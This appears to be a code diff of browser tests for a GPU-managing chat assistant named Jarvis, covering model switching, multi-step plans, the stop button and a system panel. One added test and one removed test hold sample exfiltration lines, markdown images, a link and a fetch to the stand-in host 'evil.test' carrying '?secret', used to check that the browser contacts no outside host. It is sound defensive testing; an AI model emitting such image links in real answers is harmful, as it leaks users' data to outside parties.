@@ -1,14 +1,11 @@
 """Talking to Jarvis in a real browser: commands, results, plans, sessions, the stop button."""
 
-import re
-from collections.abc import Callable
-from typing import Any
-
 from playwright.sync_api import expect
 
+from tests.fakes.browser import Outside
+from tests.fakes.scripted import ModelRequest, Reply, call, calls, say, stall
 from tests.ui.chat import ANSWER_MS, Chat
-
-SignIn = Callable[..., Any]
+from tests.ui.site import Site
 
 
 def test_check_gpu_status_shows_a_table_and_a_plot(chat: Chat) -> None:
@@ -23,21 +20,67 @@ def test_check_gpu_status_shows_a_table_and_a_plot(chat: Chat) -> None:
     chat.picture("chat-gpu-status")
 
 
-def test_a_switch_shows_its_plan_and_ends_with_the_service_loaded(chat: Chat) -> None:
-    chat.say("switch to Stable Diffusion")
-    expect(chat.page.locator(".tasklist")).to_be_visible(timeout=ANSWER_MS)
-    expect(chat.page.locator(".tasklist .task-status-done").last).to_be_visible(timeout=ANSWER_MS)
+def test_a_switch_says_what_had_to_go_and_ends_with_the_service_loaded(chat: Chat) -> None:
+    chat.say("switch to llama")
     chat.settle()
-    expect(chat.tool("gpu_switch")).to_be_visible()
-    chat.picture("chat-plan")
+    chat.say("switch to Stable Diffusion")
+    expect(chat.answer("SDXL is loaded")).to_be_visible(timeout=ANSWER_MS)
+    expect(chat.answer("Unloaded llama3.1:8b")).to_be_visible()
+    chat.settle()
     chat.page.locator('a[href$="#system"]').click()
     expect(chat.page.locator(".gpu").first.locator(".holds")).to_contain_text(
-        re.compile("SDXL|comfyui"), timeout=ANSWER_MS
+        "SDXL", timeout=ANSWER_MS
     )
 
 
+def planned(request: ModelRequest) -> Reply:
+    """Policy: plan two steps, do them, and tell."""
+    done = sum(message["role"] == "tool" for message in request.messages)
+    if done == 0:
+        steps = {"steps": ["Look at the cards", "Give the studio card to Stable Diffusion"]}
+        return calls(("plan", steps), ("gpu_status", {}))
+    if done <= 2:
+        return call("gpu_switch", {"service": "Stable Diffusion"})
+    return say("Stable Diffusion has the **studio** card now, and llama made room for it.")
+
+
+def test_a_request_of_several_steps_shows_its_plan_and_ends_done(site: Site, chat: Chat) -> None:
+    with site.thinking(planned):
+        chat.say("look at the GPU status, then switch the studio GPU to Stable Diffusion, please")
+        expect(chat.page.locator(".tasklist")).to_contain_text(
+            "Look at the cards", timeout=ANSWER_MS
+        )
+        expect(chat.answer("has the studio card now")).to_be_visible(timeout=ANSWER_MS)
+        expect(chat.page.locator(".tasklist .task-status-done")).to_have_count(2)
+        chat.settle()
+    chat.picture("chat-plan")
+
+
+def test_a_model_that_stalls_is_stopped_and_what_it_said_is_kept(site: Site, chat: Chat) -> None:
+    with site.thinking(lambda _: stall("Let me think about this")):
+        chat.say("write me a poem about graphics cards and their dreams")
+        expect(chat.answer("Let me think")).to_be_visible(timeout=ANSWER_MS)
+        chat.page.locator("#stop-button").click()
+        expect(chat.answer("Stopped")).to_be_visible(timeout=ANSWER_MS)
+    expect(chat.answer("Let me think")).to_be_visible()
+
+
+def test_pictures_and_links_in_an_answer_make_the_browser_ask_nobody(
+    site: Site, chat: Chat, outside: Outside
+) -> None:
+    text = "Look: ![cat](http://evil.test/x.png?secret) and [more](http://evil.test/y)"
+    with site.thinking(lambda _: say(text)):
+        chat.say("tell me a story about a cat that lives in a data centre")
+        expect(chat.answer("Look:").get_by_role("link", name="more")).to_be_visible(
+            timeout=ANSWER_MS
+        )
+        chat.settle()
+    expect(chat.answer("Look:").locator("img[alt=cat]")).to_have_js_property("complete", True)
+    assert not outside.heard_of("evil.test")
+
+
 def test_a_sentence_jarvis_does_not_know_offers_choices_that_can_be_clicked(chat: Chat) -> None:
-    chat.say("something about graphics cards please")
+    chat.say("show me the status")
     expect(chat.page.locator(".choices button").first).to_be_visible(timeout=ANSWER_MS)
     chat.settle()
     chat.page.locator(".choices button").first.click()
@@ -130,15 +173,3 @@ def test_the_system_panel_shows_cards_services_and_what_waits(chat: Chat) -> Non
     expect(panel.get_by_text("comfyui")).to_be_visible()
     expect(panel.get_by_text("No approvals wait.")).to_be_visible()
     expect(panel.get_by_text("No jobs yet.")).to_be_visible()
-
-
-def test_a_picture_in_an_answer_makes_the_browser_ask_nobody(chat: Chat, outside: Any) -> None:
-    failed: list[str] = []
-    chat.page.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
-    chat.page.evaluate(
-        """() => { const i = new Image(); i.src = "http://evil.test/x.png?secret"; document.body.append(i);
-                   fetch("http://evil.test/y").catch(() => 0) }"""
-    )
-    chat.page.wait_for_timeout(300)
-    assert any("evil.test/x.png" in line for line in failed)
-    assert not outside.heard_of("evil.test")
